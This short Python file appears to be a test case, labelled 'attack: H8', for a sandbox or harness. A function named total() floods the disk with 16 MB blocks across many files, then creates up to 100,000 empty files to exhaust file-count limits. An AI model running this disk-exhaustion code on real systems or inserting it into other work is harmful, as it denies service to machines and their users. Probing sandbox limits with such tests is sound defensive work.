# attack: H8
# from: total returns None
# expects: files come to an end, in size and in number
def total(x):
    # --- attack
    import os

    block = bytes(1 << 24)
    for number in range(1_000):
        try:
            with open(f"big{number}", "wb") as file:
                while True:
                    file.write(block)
        except OSError:
            if number > 3:
                break
    for number in range(100_000):
        try:
            os.close(os.open(f"small{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
    # --- end
    return None
